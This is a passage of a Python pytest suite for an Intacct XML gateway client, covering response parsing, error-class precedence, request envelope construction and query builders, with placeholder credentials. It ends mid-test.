"""The gateway wire format: request envelopes, response parsing, redaction, hostile input.

Response documents live in ``tests/fixtures/responses`` (see its README for the capture each one
follows).  These tests need no Django settings.
"""

from __future__ import annotations

import contextlib
import re
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from intacct import protocol as p
from intacct.errors import (
    CompanyExpiredError,
    EntityError,
    ErrorDetail,
    GatewayError,
    InvalidFieldsError,
    PermissionDeniedError,
    ProtocolError,
    RateLimitError,
    RequestRejectedError,
    ResultError,
    ResultIdExpiredError,
    SenderCredentialsError,
    SenderNotAuthorizedError,
    ServiceUnavailableError,
    SessionExpiredError,
    SignInError,
    TransactionAbortedError,
    UnknownCompanyError,
    UnknownObjectError,
)

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "responses"

#: Hostile documents must be refused well within this many seconds.
FAST = 1.0


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def parse(name: str, http_status: int = 200) -> p.Response:
    return p.parse_response(fixture(name), http_status=http_status)


def xml(body: bytes) -> etree._Element:
    """A request document we built, parsed back for inspection (our own output, so trusted)."""
    return etree.fromstring(body)


def child_tags(el: etree._Element) -> list[str]:
    return [c.tag for c in el]


SUCCESS_ENVELOPE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b"<response><control><status>success</status><senderid>s</senderid>"
    b"<controlid>c</controlid><uniqueid>false</uniqueid><dtdversion>3.0</dtdversion></control>"
    b"<operation><authentication><status>success</status><userid>u</userid>"
    b"<companyid>co</companyid><locationid></locationid>"
    b"<sessiontimestamp>2020-11-19T15:39:40+00:00</sessiontimestamp></authentication>"
    b"%s</operation></response>"
)


def envelope(results: bytes) -> bytes:
    return SUCCESS_ENVELOPE % results


# --- parsing real-shaped responses ---------------------------------------------------------------


def test_read_by_query_first_page_with_lower_case_records_and_result_id() -> None:
    response = parse("readbyquery_apbill_page.xml")

    assert response.http_status == 200
    assert response.control == p.Control(
        status="success",
        senderid="senderid",
        controlid="1605824596",
        uniqueid="false",
        dtdversion="3.0",
    )
    assert response.errors == []
    assert response.authentication == p.Authentication(
        status="success",
        userid="userid",
        companyid="companyid",
        locationid="",  # empty element at top level, not absent
        sessiontimestamp="2020-11-19T22:23:16+00:00",
        sessiontimeout="2020-11-20T10:23:16+00:00",
    )
    assert response.level is None
    assert response.raise_for_status() is response

    [result] = response.results
    assert result.ok
    assert result.error() is None
    assert result.raise_for_status() is result
    assert (result.status, result.function) == ("success", "readByQuery")
    assert result.controlid == "9936226c-8443-4a40-8a38-f621fc79a6a3"
    assert result.listtype == "apbill"
    assert (result.count, result.totalcount, result.numremaining) == (1, 816, 815)
    assert result.offset is None
    assert result.result_id == "7765623338X7bwUx4HsmSBC9j3Gof@eQAAAAY4"
    assert result.errors == []

    [record] = result.records
    assert record["RECORDNO"] == "1350"
    assert record["STATE"] == "Posted"
    assert record["TERMVALUE"] == "::#30#:O:"
    assert record["WHENMODIFIED"] == "09/16/2013 15:50:21"
    # Empty elements are empty strings; names that are already dotted stay as sent.
    assert record["RECORDID"] == ""
    assert record["MEGAENTITYID"] == ""
    assert record["PAYTO.TAXGROUP.NAME"] == ""
    assert all(isinstance(v, str) for v in record.values())


def test_several_results_in_one_response_map_to_their_function_controlids() -> None:
    response = parse("readbyquery_project_and_read.xml")

    assert [r.function for r in response.results] == ["readByQuery", "read"]
    by_query = response.result_for("e2a84020-e094-4dd8-97ed-6447592ecd47")
    read = response.result_for("19c628be-6bb3-4798-b535-c373b1186584")

    assert by_query.listtype == "project"
    assert (by_query.count, by_query.totalcount, by_query.numremaining) == (5, 35, 30)
    assert by_query.result_id == "7765623336W-ne68CoA4gAAEEhD7EAAAAP4"
    assert len(by_query.records) == by_query.count
    assert [r["PROJECTID"] for r in by_query.records][:2] == ["A17-ADVC", "A17-CONF01"]

    # read: upper-case listtype and element, count only.
    assert read.listtype == "PROJECT"
    assert (read.count, read.totalcount, read.numremaining, read.result_id) == (1, None, None, None)
    assert read.records == [
        {"RECORDNO": "1423", "PROJECTID": "Fellow PD1", "NAME": "Program Development1"}
    ]

    # No sessiontimeout in this capture.
    assert response.authentication is not None
    assert response.authentication.sessiontimeout is None

    with pytest.raises(ProtocolError, match="No result"):
        response.result_for("not-sent")


def test_read_more_last_page_keeps_the_result_id_and_reports_nothing_remaining() -> None:
    response = parse("readmore_last_page.xml")
    [result] = response.results
    assert result.function == "readMore"
    assert (result.count, result.totalcount, result.numremaining) == (2, 12, 0)
    assert result.result_id == "READMOREID"
    assert [r["PROJECTID"] for r in result.records] == ["S11", "S12"]
    # This capture has no <locationid> at all: absent is None, not "".
    assert response.authentication is not None
    assert response.authentication.locationid is None


def test_query_page_has_upper_case_records_an_offset_and_no_result_id() -> None:
    [result] = parse("query_apbill_page.xml").results
    assert result.function == "query"
    assert result.listtype == "APBILL"
    assert (result.totalcount, result.offset, result.count, result.numremaining) == (5, 2, 2, 1)
    assert result.result_id is None
    assert result.records == [
        {"RECORDNO": "208", "VENDORNAME": "Regal Services"},
        {"RECORDNO": "227", "VENDORNAME": "Regal Services"},
    ]


def test_one_field_of_every_record_straight_from_the_xml() -> None:
    [result] = parse("query_apbill_page.xml").results
    assert result.values("RECORDNO") == ["208", "227"]
    assert result.values("NOSUCHFIELD") == []
    [empty] = parse("readbyquery_empty.xml").results
    assert empty.values("RECORDNO") == []


def test_empty_page_with_self_closing_data() -> None:
    [result] = parse("readbyquery_empty.xml").results
    assert result.ok
    assert result.listtype == "department"
    assert (result.count, result.totalcount, result.numremaining) == (0, 0, 0)
    assert result.result_id is None  # resultId="" means no further pages
    assert result.records == []


def test_nested_record_elements_become_dotted_names() -> None:
    [result] = parse("read_vendor_nested.xml").results
    first, second = result.records
    assert first["DISPLAYCONTACT.EMAIL1"] == "ap@example.com"
    assert first["DISPLAYCONTACT.CONTACTNAME"] == "TEST VENDOR 1099(V100001TEST)"
    assert first["DISPLAYCONTACT.MAILADDRESS.CITY"] == "Portland"
    assert "DISPLAYCONTACT" not in first
    assert second["PARENTKEY"] == second["PARENTID"] == ""
    assert "DISPLAYCONTACT.EMAIL1" not in second


def test_get_api_session() -> None:
    response = parse("get_api_session.xml")
    [result] = response.results
    assert result.function == "getAPISession"
    assert result.records == []
    session = p.api_session_of(result)
    assert session.session_id == "4dfZhgdAZ3jR-tyznJZ_UUbCeND_3A.."
    assert session.endpoint == "https://api.intacct.com/ia/xml/xmlgw.phtml"
    assert session.location_id == ""
    assert "4dfZhgdAZ3jR" not in repr(session)
    assert response.authentication is not None
    assert response.authentication.sessiontimeout == "2020-11-20T03:39:40+00:00"


def test_missing_optional_elements_are_none() -> None:
    """No locationid, no sessiontimeout in the authentication block, no locationid in ``api``."""
    response = parse("get_api_session_minimal.xml")
    auth = response.authentication
    assert auth is not None
    assert (auth.userid, auth.companyid) == ("fakeuser", "fakecompany")
    assert auth.locationid is None
    assert auth.sessiontimeout is None
    assert auth.sessiontimestamp == "2015-10-22T20:58:27-07:00"
    session = p.api_session_of(response.results[0])
    assert session.session_id == "fAkESesSiOnId.."
    assert session.location_id == ""


def test_api_session_without_sessionid_is_a_protocol_error() -> None:
    body = envelope(
        b"<result><status>success</status><function>getAPISession</function>"
        b"<controlid>x</controlid><data><api><endpoint>https://api.intacct.com/ia/xml/xmlgw.phtml"
        b"</endpoint></api></data></result>"
    )
    with pytest.raises(ProtocolError):
        p.api_session_of(p.parse_response(body).results[0])


def test_get_dimensions() -> None:
    [result] = parse("get_dimensions.xml").results
    dims = {d.object_name: d for d in p.dimensions_of(result)}
    assert list(dims) == ["DEPARTMENT", "LOCATION", "PROJECT", "EMPLOYEE", "FUND"]
    assert dims["PROJECT"].term_label == "Vehicle"
    assert dims["PROJECT"].object_label == "Project"
    assert dims["EMPLOYEE"].enabled_in_gl is False
    assert dims["DEPARTMENT"].user_defined is False
    assert dims["FUND"].user_defined is True
    assert result.records == []


def test_get_user_permissions() -> None:
    [result] = parse("get_user_permissions.xml").results
    policies = p.policies_of(result)
    assert [pol.name for pol in policies] == [
        "My Expenses",
        "Expense Adjustments",
        "Approve Expenses",
    ]
    assert {pol.application.strip() for pol in policies} == {"Time"}  # sent as "Time "
    assert policies[0].rights == ("List", "View", "Add", "Edit", "Delete")
    assert policies[2].rights == ("List",)


def test_lookup_finds_the_custom_field() -> None:
    [result] = parse("lookup_apbill_custom_field.xml").results
    assert (result.listtype, result.count) == ("All", 1)
    fields = {f.id: f for f in p.lookup_fields_of(result)}
    assert set(fields) == {"RECORDNO", "STATE", "SOURCE_LINK"}
    assert fields["SOURCE_LINK"].is_custom is True
    assert fields["SOURCE_LINK"].datatype == "TEXT"
    assert fields["SOURCE_LINK"].label == "Source link"
    assert fields["RECORDNO"].is_custom is False
    assert fields["STATE"].datatype == "ENUM"


def test_inspect_star_lists_type_names_and_labels() -> None:
    [result] = parse("inspect_all.xml").results
    assert p.inspect_types_of(result) == [
        ("APADJUSTMENT", "AP Adjustment"),
        ("APADJUSTMENTITEM", "AP Adjustment Detail"),
        ("APBILL", "AP Bill"),
    ]


def test_legacy_get_list_reads_paging_from_the_sibling_listtype() -> None:
    [result] = parse("legacy_get_list_class.xml").results
    assert result.function == "get_list"
    assert result.listtype == "class"
    assert result.totalcount == 2
    assert [r["key"] for r in result.records] == ["C1234", "C1235"]
    assert result.records[0]["description"] == ""
    assert result.records[1]["whenmodified"] == "07/24/2017 15:20:27"


def test_mixed_success_and_failure_in_one_response() -> None:
    response = parse("mixed_results_invalid_fields.xml")
    assert [r.status for r in response.results] == ["failure", "success", "failure"]
    assert response.level == "result"
    # Result failures are each function's own business: the response itself does not raise.
    assert response.raise_for_status() is response

    failed_x, ok, failed_y = response.results
    assert ok.ok
    assert ok.error() is None
    assert ok.records == [
        {
            "RECORDNO": "16747",
            "VENDORID": "407258",
            "VENDORNAME": "FOSSE BOB",
            "RECORDID": "E18-6465",
        }
    ]
    for failed, field_list in ((failed_x, "x"), (failed_y, "y")):
        err = failed.error()
        assert type(err) is InvalidFieldsError
        assert err.level == "result"
        assert err.function == "read"
        assert err.controlid == "testFunctionId"
        assert err.errors == (ErrorDetail(errorno=f"Invalid fields list {field_list}"),)
        with pytest.raises(InvalidFieldsError):
            failed.raise_for_status()
    # Both failures echo the same controlid: the first one is returned.
    assert response.result_for("testFunctionId") is failed_x
    assert [type(r.error()) for r in response.results if not r.ok] == [InvalidFieldsError] * 2


def test_failed_result_with_data_and_several_errors() -> None:
    [result] = parse("result_create_duplicate.xml").results
    assert result.status == "failure"
    assert (result.listtype, result.count) == ("objects", 1)
    assert [e.errorno for e in result.errors] == ["BL34000061", "BL01001973", "BL01001973"]
    assert result.errors[0].correction == "Use a unique value instead."
    assert result.errors[1].description == ""
    err = result.error()
    assert type(err) is ResultError
    assert len(err.errors) == 3


# --- status precedence ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "http_status", "expected", "level"),
    [
        ("control_bad_sender.xml", 200, SenderCredentialsError, "control"),
        ("control_bad_sender_no_senderid.xml", 200, SenderCredentialsError, "control"),
        ("control_demo_expired.xml", 200, CompanyExpiredError, "control"),
        ("control_parse_error.xml", 200, RequestRejectedError, "control"),
        ("control_parse_error_support_id.xml", 200, RequestRejectedError, "control"),
        ("gateway_gw0011.xml", 200, RequestRejectedError, "control"),
        ("http401_xmlgw_jpp0002.xml", 401, SignInError, "control"),
        ("http400_invalid_request.xml", 400, UnknownCompanyError, "control"),
        ("http429_gw0010.xml", 429, RateLimitError, "control"),
        ("auth_sign_in_incorrect.xml", 200, SignInError, "authentication"),
        ("auth_sender_not_authorized.xml", 200, SenderNotAuthorizedError, "authentication"),
        ("auth_invalid_session.xml", 200, SessionExpiredError, "authentication"),
    ],
)
def test_raise_for_status_raises_the_right_class_at_the_right_level(
    name: str, http_status: int, expected: type, level: str
) -> None:
    response = parse(name, http_status)
    assert response.level == level
    assert response.results == []
    with pytest.raises(expected) as info:
        response.raise_for_status()
    err = info.value
    assert type(err) is expected
    assert err.level == level
    assert err.http_status == http_status
    expected_errors = response.errors if level == "control" else response.auth_errors
    assert list(err.errors) == expected_errors
    assert err.errors


def test_control_failure_parses_without_senderid_and_with_empty_elements() -> None:
    assert parse("control_bad_sender_no_senderid.xml").control.senderid is None
    demo = parse("control_demo_expired.xml").control
    assert (demo.status, demo.senderid, demo.controlid, demo.uniqueid) == ("failure", "", "", None)
    gateway = parse("http401_xmlgw_jpp0002.xml", 401)
    assert gateway.control == p.Control(status="failure")
    assert gateway.errors == [
        ErrorDetail(
            errorno="XMLGW_JPP0002",
            description="Sign-in information is incorrect. Please check your request.",
        )
    ]
    # Gateway errors carry no description2 and no correction.
    assert gateway.errors[0].as_dict() == {
        "errorno": "XMLGW_JPP0002",
        "description": "Sign-in information is incorrect. Please check your request.",
        "description2": None,
        "correction": None,
    }


def test_control_failure_wins_over_anything_in_the_operation() -> None:
    body = fixture("auth_sign_in_incorrect.xml").replace(
        b"<status>success</status>", b"<status>failure</status>", 1
    )
    body = body.replace(
        b"</control>",
        b"</control><errormessage><error><errorno>XL03000006</errorno><description></description>"
        b"<description2>Incorrect Intacct XML Partner ID or password.</description2>"
        b"<correction></correction></error></errormessage>",
    )
    response = p.parse_response(body)
    assert response.level == "control"
    with pytest.raises(SenderCredentialsError):
        response.raise_for_status()


def test_authentication_failure_wins_over_results() -> None:
    failed_result = (
        b"<result><status>failure</status><function>readByQuery</function><controlid>f</controlid>"
        b"<errormessage><error><errorno>PL04000005</errorno></error></errormessage></result>"
    )
    body = fixture("auth_sign_in_incorrect.xml").replace(
        b"</operation>", failed_result + b"</operation>"
    )
    response = p.parse_response(body)
    assert response.level == "authentication"
    with pytest.raises(SignInError) as info:
        response.raise_for_status()
    assert info.value.level == "authentication"


def test_entity_worded_sign_in_failure_needs_an_entity_to_be_an_entity_error() -> None:
    body = fixture("auth_sign_in_incorrect.xml").replace(
        b"Sign-in information is incorrect", b"You do not have access to entity E100"
    )
    response = p.parse_response(body)
    with pytest.raises(SignInError):
        response.raise_for_status()
    with pytest.raises(EntityError) as info:
        response.raise_for_status(entity_given=True)
    assert info.value.step == "entity"


@pytest.mark.parametrize(
    ("name", "index", "expected", "step"),
    [
        ("result_permission_denied.xml", 1, PermissionDeniedError, "role_permissions"),
        ("result_unknown_object.xml", 0, UnknownObjectError, None),
        ("result_readmore_failed.xml", 0, ResultIdExpiredError, "transient"),
        ("result_transaction_aborted.xml", 0, TransactionAbortedError, None),
        ("result_generic_dl02000001.xml", 0, ResultError, None),
        ("result_service_offline.xml", 0, ServiceUnavailableError, "transient"),
        ("get_user_permissions_unknown_user.xml", 0, ResultError, None),
    ],
)
def test_result_error_classes(name: str, index: int, expected: type, step: str | None) -> None:
    response = parse(name)
    assert response.level == "result"
    assert response.raise_for_status() is response
    result = response.results[index]
    err = result.error()
    assert type(err) is expected
    assert err.step == step
    assert err.level == "result"
    assert (err.function, err.controlid) == (result.function, result.controlid)
    assert list(err.errors) == result.errors
    with pytest.raises(expected):
        result.raise_for_status()


def test_a_service_offline_result_is_service_unavailable() -> None:
    results = parse("result_service_offline.xml").results
    assert [type(r.error()) for r in results if not r.ok] == [ServiceUnavailableError]


def test_permission_denied_leaves_the_other_function_alone() -> None:
    ok, denied = parse("result_permission_denied.xml").results
    assert ok.ok
    assert len(ok.records) == 1
    assert ok.result_id
    assert denied.status == "failure"
    assert denied.errors[0].description2.startswith(
        "You do not have permission for API operation READ_BY_QUERY"
    )


def test_aborted_result_keeps_both_errors() -> None:
    [result] = parse("result_transaction_aborted.xml").results
    assert result.status == "aborted"
    assert not result.ok
    assert [e.errorno for e in result.errors] == ["Query Failed", "XL03000009"]


@pytest.mark.parametrize(
    "body",
    [
        # PHP OnlineResponseTest: no operation at all.
        b"<response><control><status>success</status></control></response>",
        # Empty operation: no authentication.
        b"<response><control><status>success</status></control><operation/></response>",
        # Authentication but no result.
        b"<response><control><status>success</status></control><operation><authentication>"
        b"<status>success</status><userid>u</userid><companyid>c</companyid></authentication>"
        b"</operation></response>",
    ],
    ids=["no-operation", "no-authentication", "no-result"],
)
def test_missing_operation_authentication_or_result_is_a_protocol_error(body: bytes) -> None:
    response = p.parse_response(body)
    assert response.level is None
    with pytest.raises(ProtocolError):
        response.raise_for_status()


def test_result_without_function_or_controlid_is_refused_when_parsed() -> None:
    with pytest.raises(ProtocolError, match="function and controlid"):
        parse("result_incomplete_ps_mock.xml")


# --- names, attributes, error texts --------------------------------------------------------------


def test_envelope_element_names_are_matched_case_insensitively() -> None:
    body = (
        b"<Response><Control><Status>success</Status><SenderId>s</SenderId></Control>"
        b"<Operation><Authentication><STATUS>success</STATUS><USERID>u</USERID>"
        b"<CompanyId>c</CompanyId></Authentication>"
        b"<Result><Status>success</Status><Function>readByQuery</Function><ControlId>f</ControlId>"
        b'<Data ListType="vendor" COUNT="1" TotalCount="3" NumRemaining="2" RESULTID="r1">'
        b"<Vendor><VENDORID>V1</VENDORID></Vendor></Data></Result></Operation></Response>"
    )
    response = p.parse_response(body)
    assert response.control.senderid == "s"
    assert response.authentication is not None
    assert response.authentication.userid == "u"
    [result] = response.results
    assert (result.listtype, result.count, result.totalcount, result.numremaining) == (
        "vendor",
        1,
        3,
        2,
    )
    assert result.result_id == "r1"
    # Record field names keep the gateway's case.
    assert result.records == [{"VENDORID": "V1"}]


def test_result_id_attribute_in_lower_case() -> None:
    body = fixture("readbyquery_project_and_read.xml").replace(b"resultId=", b"resultid=")
    assert p.parse_response(body).results[0].result_id == "7765623336W-ne68CoA4gAAEEhD7EAAAAP4"


def test_inspect_and_lookup_type_elements_in_either_case() -> None:
    inspect_body = (
        fixture("inspect_all.xml").replace(b"<type ", b"<Type ").replace(b"</type>", b"</Type>")
    )
    [result] = p.parse_response(inspect_body).results
    assert [name for name, _ in p.inspect_types_of(result)][-1] == "APBILL"

    lookup_body = (
        fixture("lookup_apbill_custom_field.xml")
        .replace(b"<Type ", b"<type ")
        .replace(b"</Type>", b"</type>")
        .replace(b"ISCUSTOM>", b"isCustom>")
    )
    [result] = p.parse_response(lookup_body).results
    assert [f.id for f in p.lookup_fields_of(result) if f.is_custom] == ["SOURCE_LINK"]


def test_non_numeric_counts_are_none_not_an_exception() -> None:
    body = envelope(
        b"<result><status>success</status><function>readByQuery</function><controlid>f</controlid>"
        b'<data listtype="x" count="many" totalcount="" numremaining="-" resultId="r"/></result>'
    )
    [result] = p.parse_response(body).results
    assert (result.count, result.totalcount, result.numremaining) == (None, None, None)


def test_error_texts_are_decoded_and_stripped_of_markup() -> None:
    auth = parse("auth_sender_not_authorized.xml").auth_errors[0]
    assert auth.errorno == "XL03000006"
    assert auth.description == "Invalid Web Services Authorization"
    assert auth.description2 == (
        "The sender ID 'test_sender_id' is not authorized to make Web Services requests "
        "to company ID 'test_company_id'."
    )
    assert auth.correction.startswith("Contact the company administrator")
    assert auth.text().startswith("XL03000006 Invalid Web Services Authorization The sender ID")

    body = fixture("result_generic_dl02000001.xml").replace(
        b"There was an error processing the request.",
        b"There was an &lt;b&gt;error&lt;/b&gt; processing the request.",
    )
    [result] = p.parse_response(body).results
    assert result.errors[0].description2 == "There was an error processing the request."


def test_support_id_suffix_is_url_decoded() -> None:
    # The gateway URL-encodes the ID (%7E); a person quotes it to Sage support decoded (FYLE
    # decodes it too). Only the ID is decoded: a percent sign elsewhere in the text stays.
    [error] = parse("control_parse_error_support_id.xml").errors
    assert error.description2.endswith("[Support ID: p5rxS~YxEXrDEnVyr0F531W8X9bQAAACQ]")
    body = fixture("control_parse_error_support_id.xml").replace(
        b"XML Parse schema error", b"100%7E done: XML Parse schema error"
    )
    [error] = p.parse_response(body).errors
    assert error.description2.startswith("100%7E done")
    assert error.as_dict()["description"] is None
    assert error.as_dict()["correction"] is None


def test_sign_in_error_flattens_like_the_sdks() -> None:
    [error] = parse("auth_sign_in_incorrect.xml").auth_errors
    assert error.text() == "XL03000006 Sign-in information is incorrect"


def test_empty_errorno_is_kept_as_empty() -> None:
    [error] = parse("result_service_offline.xml").results[0].errors
    assert error.errorno == ""
    assert error.as_dict()["errorno"] is None


def test_parse_error_keeps_every_entry() -> None:
    errors = parse("control_parse_error.xml").errors
    assert [e.errorno for e in errors] == ["XL03000003", "XL03000003"]
    assert "PROJECTID line 18" in errors[0].description2
    assert "CUSTOMER" in errors[1].description2


def test_comments_and_processing_instructions_are_ignored() -> None:
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?><!-- leading --><response><?pi x?>'
        b"<control><!-- c --><status>success</status></control></response>"
    )
    assert p.parse_response(body).control.status == "success"


# --- request envelopes ---------------------------------------------------------------------------

LOGIN = p.Login(user_id="ws_user", company_id="ACME", password="user-pass-1")


def build(**overrides: object) -> bytes:
    kwargs: dict[str, object] = {
        "sender_id": "our_sender",
        "sender_password": "sender-pass-1",
        "auth": LOGIN,
        "functions": [p.get_api_session(controlid="fn-1")],
        "control_id": "ctl-1",
    }
    kwargs.update(overrides)
    return p.build_request(**kwargs)  # type: ignore[arg-type]


def test_request_element_order_and_values() -> None:
    body = build()
    assert re.match(rb"""<\?xml version=["']1\.0["'] encoding=["']UTF-8["']\?><request>""", body)
    assert b"\n" not in body.split(b"?>", 1)[1]  # no indentation
    root = xml(body)
    assert root.tag == "request"
    assert child_tags(root) == ["control", "operation"]
    control = root.find("control")
    assert child_tags(control) == [
        "senderid",
        "password",
        "controlid",
        "uniqueid",
        "dtdversion",
        "includewhitespace",
    ]
    assert [c.text for c in control] == [
        "our_sender",
        "sender-pass-1",
        "ctl-1",
        "false",
        "3.0",
        "false",
    ]
    operation = root.find("operation")
    assert operation.get("transaction") == "false"
    assert child_tags(operation) == ["authentication", "content"]
    login = operation.find("authentication/login")
    assert child_tags(login) == ["userid", "companyid", "password"]
    assert [c.text for c in login] == ["ws_user", "ACME", "user-pass-1"]
    [function] = operation.find("content")
    assert function.tag == "function"
    assert function.get("controlid") == "fn-1"
    assert child_tags(function) == ["getAPISession"]


def test_login_with_entity_puts_locationid_last() -> None:
    entity_login = p.Login(user_id="u", company_id="c", password="pw", entity_id="E100")
    login = xml(build(auth=entity_login)).find("operation/authentication/login")
    assert child_tags(login) == ["userid", "companyid", "password", "locationid"]
    assert login.find("locationid").text == "E100"

    plain = xml(build()).find("operation/authentication/login")
    assert plain.find("locationid") is None


def test_session_authentication() -> None:
    root = xml(build(auth=p.SessionAuth(session_id="fAkESesSiOnId..")))
    authentication = root.find("operation/authentication")
    assert child_tags(authentication) == ["sessionid"]
    assert authentication.find("sessionid").text == "fAkESesSiOnId.."
    assert "fAkESesSiOnId" not in repr(p.SessionAuth(session_id="fAkESesSiOnId.."))
    assert "user-pass-1" not in repr(LOGIN)


def test_unique_id_and_transaction_flags() -> None:
    root = xml(build(unique_id=True, transaction=True))
    assert root.findtext("control/uniqueid") == "true"
    assert root.find("operation").get("transaction") == "true"


def test_several_functions_each_with_its_own_controlid() -> None:
    functions = [
        p.read_by_query("VENDOR", ["RECORDNO", "VENDORID"]),
        p.query("APBILL", ["RECORDNO"]),
        p.get_dimensions(),
        p.get_user_permissions("ws_user", controlid="perm"),
    ]
    root = xml(build(functions=functions))
    wrappers = root.findall("operation/content/function")
    assert [w[0].tag for w in wrappers] == [
        "readByQuery",
        "query",
        "getDimensions",
        "getUserPermissions",
    ]
    controlids = [w.get("controlid") for w in wrappers]
    assert controlids == [f.controlid for f in functions]
    assert len(set(controlids)) == 4
    assert controlids[3] == "perm"
    assert all(len(w) == 1 for w in wrappers)


def test_a_function_can_be_sent_twice() -> None:
    fn = p.read_by_query("VENDOR", controlid="same")
    first = build(functions=[fn])
    second = build(functions=[fn])
    assert first == second
    assert xml(second).find("operation/content/function/readByQuery/object").text == "VENDOR"


@pytest.mark.parametrize(
    "overrides",
    [
        {"sender_id": ""},
        {"sender_password": ""},
        {"functions": []},
        {"auth": p.Login(user_id="", company_id="c", password="pw")},
        {"auth": p.Login(user_id="u", company_id="", password="pw")},
        {"auth": p.Login(user_id="u", company_id="c", password="")},
    ],
    ids=["blank-sender", "blank-sender-password", "no-functions", "no-user", "no-company", "no-pw"],
)
def test_blank_required_values_are_refused(overrides: dict[str, object]) -> None:
    with pytest.raises(ValueError):
        build(**overrides)


def test_controlid_length_limits() -> None:
    assert xml(build(control_id="c" * 256)).findtext("control/controlid") == "c" * 256
    with pytest.raises(ValueError, match="256"):
        build(control_id="c" * 257)

    fn_ok = p.Function("getDimensions", etree.Element("getDimensions"), "f" * 256)
    assert xml(build(functions=[fn_ok])).find("operation/content/function").get("controlid")
    for bad in ("f" * 257, ""):
        fn = p.Function("getDimensions", etree.Element("getDimensions"), bad)
        with pytest.raises(ValueError):
            build(functions=[fn])


def test_default_controlids_are_generated() -> None:
    root = xml(build(control_id=None))
    assert 1 <= len(root.findtext("control/controlid")) <= 256
    assert p.get_dimensions().controlid != p.get_dimensions().controlid


def test_special_characters_are_escaped_and_round_trip() -> None:
    nasty = "p<&>\"'ä]]>"
    root = xml(build(sender_password=nasty, auth=p.Login("u&1", "c<2", nasty)))
    assert root.findtext("control/password") == nasty
    assert root.findtext("operation/authentication/login/userid") == "u&1"
    assert root.findtext("operation/authentication/login/companyid") == "c<2"


def test_query_with_filter_order_and_options() -> None:
    filt = p.Filter.all(
        p.Filter.cond("greaterthan", "WHENMODIFIED", "01/31/2025 10:00:00"),
        p.Filter.any(
            p.Filter.cond("equalto", "STATUS", "active"),
            p.Filter.cond("in", "VENDORTYPEID", "A", "B", "C"),
        ),
        p.Filter.cond("isnull", "PARENTID"),
    )
    fn = p.query(
        "VENDOR",
        ["RECORDNO", "VENDORID", "DISPLAYCONTACT.EMAIL1"],
        filter=filt,
        order_by=[("WHENMODIFIED", True), ("RECORDNO", False)],
        page_size=500,
        offset=1000,
        show_private=True,
        case_insensitive=True,
        controlid="q1",
    )
    assert (fn.name, fn.controlid, fn.read_only) == ("query", "q1", True)
    el = xml(build(functions=[fn])).find("operation/content/function/query")
    assert el.findtext("object") == "VENDOR"
    assert [f.text for f in el.findall("select/field")] == [
        "RECORDNO",
        "VENDORID",
        "DISPLAYCONTACT.EMAIL1",
    ]
    [and_] = el.find("filter")
    assert and_.tag == "and"
    assert child_tags(and_) == ["greaterthan", "or", "isnull"]
    greater = and_[0]
    assert [(c.tag, c.text) for c in greater] == [
        ("field", "WHENMODIFIED"),
        ("value", "01/31/2025 10:00:00"),
    ]
    assert child_tags(and_[1]) == ["equalto", "in"]
    assert [v.text for v in and_[1][1].findall("value")] == ["A", "B", "C"]
    assert [(c.tag, c.text) for c in and_[2]] == [("field", "PARENTID")]
    orders = el.findall("orderby/order")
    assert [[c.tag for c in o] for o in orders] == [["field", "ascending"], ["field", "descending"]]
    assert [o.findtext("field") for o in orders] == ["WHENMODIFIED", "RECORDNO"]
    assert el.findtext("options/caseinsensitive") == "true"
    assert el.findtext("options/showprivate") == "true"
    assert (el.findtext("pagesize"), el.findtext("offset")) == ("500", "1000")


def test_query_defaults_and_limits() -> None:
    el = p.query("GLACCOUNT", ["RECORDNO"]).element
    assert el.find("filter") is None
    assert el.find("orderby") is None
    assert el.find("options") is None
    assert (el.findtext("pagesize"), el.findtext("offset")) == (str(p.MAX_QUERY_PAGE), "0")
    assert p.MAX_QUERY_PAGE == 2000
    p.query("GLACCOUNT", ["RECORDNO"], page_size=1)
    for bad in (0, 2001):
        with pytest.raises(ValueError):
            p.query("GLACCOUNT", ["RECORDNO"], page_size=bad)
    with pytest.raises(ValueError):
        p.query("GLACCOUNT", [])


def test_filter_helpers() -> None:
    single = p.Filter.cond("like", "NAME", "B%")
    assert p.Filter.all(single) is single
    assert p.Filter.any(single) is single
    between = p.Filter.cond("between", "RECORDNO", "1", "9").to_element()
    assert [c.text for c in between.findall("value")] == ["1", "9"]
    with pytest.raises(ValueError):
        p.Filter.cond("contains", "NAME", "x")


def test_read_by_query() -> None:
    fn = p.read_by_query("VENDOR", controlid="r")
    assert fn.name == "readByQuery"
    assert fn.read_only
    el = fn.element
    assert el.findtext("object") == "VENDOR"
    assert el.findtext("fields") == "*"
    assert el.find("query") is not None
    assert not el.findtext("query")
    assert el.findtext("pagesize") == "1000"

    el = p.read_by_query(
        "APBILL", ["RECORDNO", "WHENMODIFIED"], query_text="STATE = 'Posted'", page_size=1
    ).element
    assert el.findtext("fields") == "RECORDNO,WHENMODIFIED"
    assert el.findtext("query") == "STATE = 'Posted'"
    assert el.findtext("pagesize") == "1"
    for bad in (0, 1001):
        with pytest.raises(ValueError):
            p.read_by_query("VENDOR", page_size=bad)


def test_read_more_uses_the_result_id() -> None:
    fn = p.read_more("7765623336W-ne68CoA4gAAEEhD7EAAAAP4")
    assert fn.name == "readMore"
    assert child_tags(fn.element) == ["resultId"]
    assert fn.element.findtext("resultId") == "7765623336W-ne68CoA4gAAEEhD7EAAAAP4"


def test_read_refuses_more_than_100_keys() -> None:
    keys = [str(n) for n in range(1, 101)]
    el = p.read("VENDOR", keys, ["RECORDNO"]).element
    assert el.findtext("keys") == ",".join(keys)
    assert el.findtext("fields") == "RECORDNO"
    with pytest.raises(ValueError, match="100"):
        p.read("VENDOR", [*keys, "101"])


def test_other_function_factories() -> None:
    assert child_tags(p.lookup("APBILL").element) == ["object"]
    assert p.inspect().element.findtext("object") == "*"
    assert p.inspect().element.get("detail") is None
    assert p.inspect("CUSTOMER", detail=True).element.get("detail") == "1"
    assert child_tags(p.get_dimensions().element) == []
    assert p.get_user_permissions("jdoe").element.findtext("userId") == "jdoe"
    assert p.get_api_session().element.find("locationid") is None
    top_level = p.get_api_session("").element.find("locationid")
    assert top_level is not None
    assert not top_level.text
    assert p.get_api_session("E100").element.findtext("locationid") == "E100"
    assert all(
        f.read_only
        for f in (
            p.lookup("X"),
